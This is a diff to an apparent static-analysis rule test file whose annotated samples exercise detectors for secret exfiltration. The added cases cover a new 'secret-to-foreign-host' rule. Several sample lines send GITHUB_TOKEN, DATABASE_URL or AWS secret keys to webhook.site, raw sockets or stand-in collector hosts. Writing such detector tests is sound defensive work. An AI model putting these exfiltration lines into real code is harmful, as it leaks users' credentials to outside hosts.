@@ -260,19 +260,29 @@ requests.get("https://203.0.113.5/", params=env_copy, timeout=3)
 # ruleid: exfiltration-endpoint
 hook = "https://webhook.site/0f1e2d3c"
 gh_token = os.environ["GITHUB_TOKEN"]
-# ruleid: secret-to-exfiltration-endpoint, http-client, requests-no-timeout
+# ruleid: secret-to-exfiltration-endpoint, http-client, requests-no-timeout, secret-to-foreign-host
 requests.post(hook, json={"content": gh_token})
 db_url = os.getenv("DATABASE_URL", "")
 # ruleid: socket-use
 raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 # ruleid: secret-over-raw-socket, cloud-secret-in-request
 raw.sendall(db_url.encode())
-# ruleid: cloud-secret-in-request, http-client, requests-no-timeout
+# ruleid: cloud-secret-in-request, http-client, requests-no-timeout, secret-to-foreign-host
 requests.post("https://collector.example.net/ingest", data=os.environ["AWS_SECRET_ACCESS_KEY"])
 from requests_aws4auth import AWS4Auth
 
 signer = AWS4Auth(os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], "eu-west-1", "es")
 # a signer handed over as auth= is not data sent
 # ok: cloud-secret-in-request
-# ruleid: http-client, requests-no-timeout
+# ruleid: http-client, requests-no-timeout, secret-to-foreign-host
 requests.post("https://search.example.org/_search", auth=signer, json={"size": 1})
+# a service's key sent to another service's host
+gh = os.getenv("GITHUB_TOKEN")
+# ruleid: secret-to-foreign-host, http-client
+requests.post("https://gh-stats.example-dev.io/collect", data={"token": gh}, timeout=5)
+# ok: secret-to-foreign-host
+# ruleid: http-client
+requests.get("https://api.github.com/user", headers={"Authorization": "token " + gh}, timeout=5)
+# ok: secret-to-foreign-host
+# ruleid: http-client
+requests.post("http://localhost:4000/v1/chat", headers={"Authorization": os.environ["OPENAI_API_KEY"]}, timeout=5)
